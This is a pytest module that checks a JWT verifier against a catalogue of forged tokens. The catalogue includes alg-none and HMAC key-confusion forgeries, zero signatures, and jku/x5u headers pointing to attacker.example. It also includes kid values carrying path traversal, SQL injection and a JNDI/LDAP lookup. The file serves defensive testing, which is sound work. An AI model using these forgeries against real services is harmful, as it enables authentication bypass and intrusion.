"""What an attacker would send to a service that trusts an issuer by JWKS, a partner by key, and itself by secret."""

from __future__ import annotations

import hmac
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from flask_guard.auth.bearer import TokenVerifier
from flask_guard.auth.jwks import JwksKeys
from flask_guard.crypto.signing import SigningKey
from flask_guard.errors import CredentialRefused
from tests.auth.forge import (
    AUDIENCE,
    ISSUER,
    NOW,
    StillClock,
    base64url,
    claims,
    private_key,
    profile,
    public_pem,
    segment,
    sign,
    signing_key,
)

PARTNER, OURS = "https://partner.example", "https://ours.example"
RSA_KEY, PARTNER_KEY, SECRET_KEY = signing_key("RS256", "a"), signing_key("ES256", "b"), signing_key("HS256", "own")
STRANGER = signing_key("RS256", "attacker")
NAMES_OF_NOBODY = {"unknown kid", "kid of a path", "kid of another issuer's key"}


@dataclass
class World:
    """A service that trusts an issuer by JWKS, a partner by public key, and itself by secret."""

    fetches: list[str] = field(default_factory=list)
    clock: StillClock = field(default_factory=StillClock)

    def __post_init__(self) -> None:
        keys = JwksKeys(ISSUER + "/keys", fetch=self._fetch, clock=self.clock, max_stale_s=86_400)
        self.verifier = TokenVerifier(
            [
                profile(keys=keys),
                profile(PARTNER_KEY, issuer=PARTNER),
                profile(SECRET_KEY, issuer=OURS, types=("at+jwt",)),
            ],
            clock=StillClock(),
        )
        assert self.verifier.authenticate(sign(RSA_KEY)).id == "user-1"
        self.clock.now += 31  # from here on, a fetch would be allowed
        self.fetches.clear()

    def _fetch(self, url: str) -> bytes:
        self.fetches.append(url)
        return json.dumps({"keys": [RSA_KEY.public_jwk()]}).encode()

    def refusal_of(self, token: str) -> CredentialRefused:
        with pytest.raises(CredentialRefused) as caught:
            self.verifier.authenticate(token)
        return caught.value


# Forgeries ---------------------------------------------------------------------------------------------


def unsigned(alg: Any, signature: str = "", **header: Any) -> str:
    return f"{segment({'typ': 'at+jwt', 'alg': alg, **header})}.{segment(claims(sub='admin'))}.{signature}"


def with_hmac(key: bytes, alg: str = "HS256", **header: Any) -> str:
    signing_input = unsigned(alg, kid=RSA_KEY.kid, **header).rpartition(".")[0]
    mac = hmac.digest(key, signing_input.encode(), {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}[alg])
    return f"{signing_input}.{base64url(mac)}"


def with_signature(signature: bytes, key: SigningKey = PARTNER_KEY, issuer: str = PARTNER) -> str:
    return f"{sign(key, claims(iss=issuer)).rpartition('.')[0]}.{base64url(signature)}"


def with_der_signature() -> str:
    token = sign(PARTNER_KEY, claims(iss=PARTNER))
    raw = PARTNER_KEY.sign(token.rpartition(".")[0].encode())
    r, s = int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big")
    return with_signature(encode_dss_signature(r, s))


def public_bytes(encoding: Encoding, form: PublicFormat) -> bytes:
    return private_key("rsa:a").public_key().public_bytes(encoding, form)


def embedded(**header: Any) -> str:
    return sign(STRANGER, kid=RSA_KEY.kid, **header)


def stranger_jwk() -> dict[str, str]:
    return STRANGER.public_jwk() or {}


def in_pieces(change: Callable[[str, str, str], str], key: SigningKey = RSA_KEY) -> str:
    header, payload, signature = sign(key).split(".")
    return change(header, payload, signature)


def own(payload: Any = None, header: Any = None, **changes: Any) -> str:
    """Return a token with a right signature of an issuer that we trust: an attacker may hold such a one."""
    return sign(RSA_KEY, payload, header, **changes)


def spoil_last_bits(text: str) -> str:
    """Return another spelling of the same bytes: the unused bits of the last character set."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    assert len(text) % 4 in (2, 3)
    return text[:-1] + alphabet[alphabet.index(text[-1]) + 1]


def raw_header(text: str) -> str:
    return own(header=text.replace("KID", RSA_KEY.kid))


def raw_payload(text: str) -> str:
    good = json.dumps(claims())[1:-1]
    return own(payload=text.replace("GOOD", good))


JSON_FORM = json.dumps({"payload": "e30", "signatures": [{"protected": "e30", "signature": "AA"}]})

HOSTILE: dict[str, Callable[[], str]] = {
    # No signature
    "alg none": lambda: unsigned("none"),
    "alg None": lambda: unsigned("None"),
    "alg NONE": lambda: unsigned("NONE"),
    "alg nOnE": lambda: unsigned("nOnE"),
    "alg none with space": lambda: unsigned("none "),
    "alg none with kid": lambda: unsigned("none", kid=RSA_KEY.kid),
    "alg none with a signature": lambda: unsigned("none", "AAAA"),
    "alg empty": lambda: unsigned(""),
    "alg null": lambda: unsigned(None, "AAAA"),
    "alg missing": lambda: own(header={"typ": "at+jwt", "kid": RSA_KEY.kid}),
    "alg a list": lambda: unsigned(["RS256"], "AAAA", kid=RSA_KEY.kid),
    "alg in lower case": lambda: own(alg="rs256"),
    "alg unknown": lambda: own(alg="RS257"),
    "no signature": lambda: in_pieces(lambda h, p, s: f"{h}.{p}."),
    "no signature and no dot": lambda: in_pieces(lambda h, p, s: f"{h}.{p}"),
    # The wrong algorithm
    "HS256 with the PEM": lambda: with_hmac(public_pem(private_key("rsa:a")).encode()),
    "HS256 with the PEM without its line end": lambda: with_hmac(public_pem(private_key("rsa:a")).strip().encode()),
    "HS384 with the PEM": lambda: with_hmac(public_pem(private_key("rsa:a")).encode(), "HS384"),
    "HS512 with the PEM": lambda: with_hmac(public_pem(private_key("rsa:a")).encode(), "HS512"),
    "HS256 with the PKCS1 PEM": lambda: with_hmac(public_bytes(Encoding.PEM, PublicFormat.PKCS1)),
    "HS256 with the DER": lambda: with_hmac(public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)),
    "HS256 with the SSH form": lambda: with_hmac(public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH)),
    "HS256 with the JWK": lambda: with_hmac(json.dumps(RSA_KEY.public_jwk()).encode()),
    "HS256 with the modulus": lambda: with_hmac((RSA_KEY.public_jwk() or {})["n"].encode()),
    "HS256 with an empty secret": lambda: with_hmac(b""),
    "HS256 for an issuer of ours with its name as secret": lambda: with_hmac(OURS.encode()),
    "PS256 by the RS256 key": lambda: sign(SigningKey(private_key("rsa:a"), "PS256"), kid=RSA_KEY.kid),
    "RS512 by the RS256 key": lambda: sign(SigningKey(private_key("rsa:a"), "RS512"), kid=RSA_KEY.kid),
    "RS256 called ES256": lambda: own(alg="ES256"),
    "RS256 called PS256": lambda: own(alg="PS256"),
    "HS512 by the HS256 secret": lambda: sign(signing_key("HS512", "own"), claims(iss=OURS), kid=SECRET_KEY.kid),
    # Signatures that some libraries took
    "ES256 all zero": lambda: with_signature(bytes(64)),
    "ES256 r and s of one": lambda: with_signature((b"\0" * 31 + b"\1") * 2),
    "ES256 empty": lambda: with_signature(b""),
    "ES256 in DER": with_der_signature,
    "ES256 with zeros before": lambda: with_signature(b"\0" + PARTNER_KEY.sign(b"x") + b"\0"),
    "RS256 all zero": lambda: with_signature(bytes(256), RSA_KEY, ISSUER),
    "RS256 of one": lambda: with_signature(bytes(255) + b"\1", RSA_KEY, ISSUER),
    "signature of another token": lambda: in_pieces(lambda h, p, s: f"{h}.{p}.{own(claims(sub='x')).split('.')[2]}"),
    "signature cut": lambda: in_pieces(lambda h, p, s: f"{h}.{p}.{s[:-4]}"),
    "signature twice": lambda: in_pieces(lambda h, p, s: f"{h}.{p}.{s}{s}"),
    # Keys and treatments that the token brings along
    "embedded jwk": lambda: embedded(jwk=stranger_jwk()),
    "embedded jwk and no kid": lambda: sign(STRANGER, jwk=stranger_jwk(), kid=None),
    "jku": lambda: embedded(jku="https://attacker.example/keys"),
    "x5u": lambda: embedded(x5u="https://attacker.example/cert"),
    "x5c": lambda: embedded(x5c=["MIIB"]),
    "jku in a token that is signed well": lambda: own(jku="https://attacker.example/keys"),
    "crit": lambda: own(crit=["exp"]),
    "crit with an extension": lambda: own(crit=["bork"], bork=True),
    "crit empty": lambda: own(crit=[]),
    "b64 false": lambda: own(b64=False, crit=["b64"]),
    # Names of keys
    "kid of a path": lambda: sign(STRANGER, kid="dev/null"),
    "kid of a traversal": lambda: own(kid="../../../../etc/passwd"),
    "kid with SQL": lambda: own(kid="x' UNION SELECT 'key' --"),
    "kid with NUL": lambda: own(kid=f"{RSA_KEY.kid}\0"),
    "kid with a line end": lambda: own(kid=f"{RSA_KEY.kid}\n"),
    "kid empty": lambda: own(kid=""),
    "kid a number": lambda: own(kid=0),
    "kid a list": lambda: own(kid=[RSA_KEY.kid]),
    "kid null": lambda: own(header={"typ": "at+jwt", "alg": "RS256", "kid": None}),
    "kid of 4 KiB": lambda: own(kid="k" * 4096),
    "kid a template": lambda: own(kid="${jndi:ldap://attacker.example/x}"),
    "unknown kid": lambda: sign(STRANGER),
    "stranger under a known kid": lambda: sign(STRANGER, kid=RSA_KEY.kid),
    "stranger without a kid": lambda: sign(STRANGER, kid=None),
    # Other issuers
    "issuer A signed by B": lambda: sign(PARTNER_KEY, kid=RSA_KEY.kid, alg="RS256"),
    "kid of another issuer's key": lambda: sign(PARTNER_KEY),
    "issuer B signed by A": lambda: own(claims(iss=PARTNER)),
    "our own issuer signed by A": lambda: own(claims(iss=OURS)),
    "unlisted issuer": lambda: own(claims(iss="https://attacker.example")),
    "unlisted issuer with a key set": lambda: sign(STRANGER, claims(iss="https://attacker.example/keys")),
    "issuer with a slash": lambda: own(claims(iss=ISSUER + "/")),
    "issuer in upper case": lambda: own(claims(iss=ISSUER.upper())),
    "part of the issuer": lambda: own(claims(iss=ISSUER[:-3])),
    "issuer with a space": lambda: own(claims(iss=ISSUER + " ")),
    "no issuer": lambda: own(claims(iss=None)),
    "issuer null": lambda: own({**claims(), "iss": None}),
    "issuers in a list": lambda: own(claims(iss=[ISSUER])),
    "issuer an object": lambda: own(claims(iss={ISSUER: 1})),
    # Ambiguous JSON
    "two alg members": lambda: raw_header('{"alg":"none","alg":"RS256","kid":"KID"}'),
    "two alg members, one escaped": lambda: raw_header('{"alg":"RS256","\\u0061lg":"none","kid":"KID"}'),
    "two kid members": lambda: raw_header('{"alg":"RS256","kid":"x","kid":"KID"}'),
    "two sub members": lambda: raw_payload('{GOOD,"sub":"admin"}'),
    "two exp members": lambda: raw_payload('{GOOD,"exp":99999999999}'),
    "two members within": lambda: raw_payload('{GOOD,"realm":{"roles":[],"roles":["admin"]}}'),
    "deep header": lambda: raw_header('{"alg":"RS256","x":' + "[" * 2000 + "]" * 2000 + "}"),
    "deep payload": lambda: raw_payload('{GOOD,"x":' + '{"a":' * 700 + "1" + "}" * 700 + "}"),
    "header of 100,000 brackets": lambda: raw_header('{"alg":"RS256","x":' + "[" * 100_000 + "}"),
    "header an array": lambda: raw_header('["RS256"]'),
    "header a text": lambda: raw_header('"RS256"'),
    "header with a comment": lambda: raw_header('{"alg":"RS256"/**/,"kid":"KID"}'),
    "header with a trailing comma": lambda: raw_header('{"alg":"RS256","kid":"KID",}'),
    "header in single quotes": lambda: raw_header("{'alg':'RS256'}"),
    "header in UTF-16": lambda: own(header='{"alg":"RS256"}'.encode("utf-16")),
    "header with a byte order mark": lambda: raw_header('\ufeff{"alg":"RS256","kid":"KID"}'),
    "payload no JSON": lambda: raw_payload("sub=admin"),
    "payload an array": lambda: raw_payload("[{GOOD}]"),
    "payload null": lambda: raw_payload("null"),
    "payload two objects": lambda: raw_payload('{GOOD}{"sub":"admin"}'),
    "payload not UTF-8": lambda: own(payload=b'{"sub":"\xff"}'),
    "payload a token": lambda: own(payload=sign(RSA_KEY), cty="JWT"),
    "a number of 5,000 digits": lambda: raw_payload('{GOOD,"x":' + "9" * 5000 + "}"),
    "a number that is none": lambda: raw_payload('{GOOD,"x":NaN}'),
    # Dates
    "exp NaN": lambda: raw_payload('{"iss":"' + ISSUER + '","aud":"' + AUDIENCE + '","sub":"x","exp":NaN}'),
    "exp 1e400": lambda: raw_payload('{"iss":"' + ISSUER + '","aud":"' + AUDIENCE + '","sub":"x","exp":1e400}'),
    "exp Infinity": lambda: raw_payload('{"iss":"' + ISSUER + '","aud":"' + AUDIENCE + '","sub":"x","exp":Infinity}'),
    "exp 10**30": lambda: own(claims(exp=10**30)),
    "exp true": lambda: own(claims(exp=True)),
    "exp empty": lambda: own(claims(exp="")),
    "exp a text": lambda: own(claims(exp=str(NOW + 300))),
    "exp a list": lambda: own(claims(exp=[NOW + 300])),
    "exp null": lambda: own({**claims(), "exp": None}),
    "exp in milliseconds": lambda: own(claims(exp=(NOW + 300) * 1000)),
    "nbf a text": lambda: own(claims(nbf="0")),
    "iat an object": lambda: own(claims(iat={})),
    # Claims
    "ID token": lambda: own(claims(nonce="n", at_hash="h"), typ="JWT"),
    "ID token by its header": lambda: own(typ="id+jwt"),
    "ID token of Cognito": lambda: own(claims(token_use="id"), typ=None),
    "ID token of Keycloak": lambda: own(claims(typ="ID"), typ="JWT"),
    "refresh token": lambda: own(claims(token_type="refresh")),
    "refresh token of Keycloak": lambda: own(claims(typ="Offline"), typ="JWT"),
    "logout token": lambda: own(claims(events={"http://schemas.openid.net/event/backchannel-logout": {}}), typ="JWT"),
    "logout token by its header": lambda: own(typ="logout+jwt"),
    "plain JWT where only access tokens will do": lambda: sign(SECRET_KEY, claims(iss=OURS), typ="JWT"),
    "audience of another service": lambda: own(claims(aud="billing-api")),
    "audience missing": lambda: own(claims(aud=None)),
    "audience as part of a text": lambda: own(claims(aud=f"{AUDIENCE} billing-api")),
    "audience an object": lambda: own(claims(aud={AUDIENCE: True})),
    "subject missing": lambda: own(claims(sub=None)),
    "subject a number": lambda: own(claims(sub=1)),
    "subject empty": lambda: own(claims(sub="")),
    "subject with a line end": lambda: own(claims(sub="user\nadmin")),
    "subject with a direction mark": lambda: own(claims(sub="user\u202enimda")),
    "subject a lone surrogate": lambda: own(claims(sub="\ud800")),
    "a lone surrogate anywhere": lambda: own(claims(nickname="a\udfff")),
    "roles an object": lambda: own(claims(roles={"admin": True})),
    "roles a number": lambda: own(claims(roles=1)),
    "tenant a list": lambda: own(claims(tenant=["acme"])),
    # Spellings
    "padding after the signature": lambda: sign(PARTNER_KEY, claims(iss=PARTNER)) + "==",
    "padding after the payload": lambda: in_pieces(lambda h, p, s: f"{h}.{p}=.{s}"),
    "padding after the header": lambda: in_pieces(lambda h, p, s: f"{h}=.{p}.{s}"),
    "stray bits in the signature": lambda: in_pieces(lambda h, p, s: f"{h}.{p}.{spoil_last_bits(s)}"),
    "other alphabet": lambda: in_pieces(lambda h, p, s: f"{h}.{p}.{'+/' + s[2:]}"),
    "line end after the token": lambda: sign(RSA_KEY) + "\n",
    "line end in the token": lambda: in_pieces(lambda h, p, s: f"{h}.{p}.\n{s}"),
    "space before the token": lambda: " " + sign(RSA_KEY),
    "space after the token": lambda: sign(RSA_KEY) + " ",
    "NUL after the token": lambda: sign(RSA_KEY) + "\0",
    "the scheme twice": lambda: "Bearer " + sign(RSA_KEY),
    "in quotes": lambda: f'"{sign(RSA_KEY)}"',
    "two tokens joined": lambda: sign(RSA_KEY) * 2,
    "two tokens with a comma": lambda: f"{sign(RSA_KEY)},{sign(RSA_KEY)}",
    "two tokens with a dot": lambda: f"{sign(RSA_KEY)}.{sign(RSA_KEY)}",
    "four segments": lambda: sign(RSA_KEY) + ".AAAA",
    "five segments": lambda: sign(RSA_KEY) + ".AAAA.AAAA",
    "a dot before": lambda: "." + sign(RSA_KEY),
    "a dot after": lambda: sign(RSA_KEY) + ".",
    "empty": lambda: "",
    "dots": lambda: "..",
    "one segment": lambda: "e30",
    "JSON form": lambda: JSON_FORM,
    "percent-encoded": lambda: sign(RSA_KEY).replace(".", "%2E"),
    "wide letters": lambda: "".join(chr(ord(c) + 0xFEE0) for c in sign(RSA_KEY)),
    "not ASCII": lambda: sign(RSA_KEY) + "é",
    "a lone surrogate as text": lambda: sign(RSA_KEY) + "\ud800",
    "latin-1 bytes": lambda: bytes(range(256)).decode("latin-1"),
    "just too long": lambda: own(claims(filler="x" * 6200)),
    "a megabyte": lambda: "A" * 2**20,
    "header swapped": lambda: in_pieces(lambda h, p, s: f"{segment({'alg': 'RS256', 'kid': RSA_KEY.kid})}.{p}.{s}"),
    "payload swapped": lambda: in_pieces(lambda h, p, s: f"{h}.{segment(claims(sub='admin'))}.{s}"),
}

# Refused for what they say, under a code of their own.
HOSTILE_WITH_CODE: dict[str, tuple[Callable[[], str], str]] = {
    "no exp": (lambda: own(claims(exp=None)), "token_missing_expiry"),
    "expired": (lambda: own(claims(exp=NOW - 1)), "token_expired"),
    "expired in 1970": (lambda: own(claims(exp=0)), "token_expired"),
    "not yet valid": (lambda: own(claims(nbf=NOW + 60)), "token_not_yet_valid"),
    "issued in the future": (lambda: own(claims(iat=NOW + 60)), "token_future_issued"),
}
